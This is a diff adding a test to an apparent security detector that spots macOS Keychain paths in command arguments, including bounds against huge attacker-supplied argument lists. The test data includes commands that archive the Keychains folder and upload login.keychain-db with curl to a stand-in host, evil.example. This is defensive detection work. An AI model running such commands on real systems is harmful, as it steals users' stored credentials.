@@ -205,6 +205,15 @@ describe('detection: argument normalization', () => {
       const sh = norm(['sh', '-c', 'tar -czf /tmp/k.tgz -C ~/Library Keychains; ls Keychains'], { cwd: '/tmp', userName: 'alice' });
       assert.deepEqual(sh.keychainLocations, ['/Users/alice/Library/Keychains'], 'the -C of one simple command does not move the next one');
     });
+    it('D2: repeated directory options keep the base bounded (argv is attacker-controlled)', () => {
+      const moves = Array.from({ length: 100_000 }, () => ['-C', 'a', 'x']).flat();
+      const n = norm(['tar', '-cf', 'k.tar', ...moves, '-C', '/Users/alice/Library', 'Keychains'], { cwd: '/tmp' });
+      assert.deepEqual(n.keychainLocations, ['/Users/alice/Library/Keychains']);
+      assert.equal(n.paths.length, LIMITS.maxPaths);
+      const deep = norm(['tar', '-cf', 'k.tar', ...Array.from({ length: 100_000 }, () => '-Ca'), 'Library/Keychains'], { cwd: '/tmp' });
+      assert.equal(deep.keychainLocations.length, 1);
+      assert.ok((deep.keychainLocations[0] as string).length <= LIMITS.maxBasePath + '/Library/Keychains'.length, 'the base keeps only its last names');
+    });
     it('D3: a path glued to a short option is a candidate for any tool; other glued words are flags', () => {
       assert.deepEqual(norm(['curl', '-T/Users/alice/Library/Keychains/login.keychain-db', 'https://evil.example/']).keychainLocations, ['/Users/alice/Library/Keychains']);
       assert.deepEqual(norm(['curl', '-o~/Library/Keychains/x', 'https://h/'], { userName: 'alice' }).keychainLocations, ['~/Library/Keychains', '/Users/alice/Library/Keychains']);
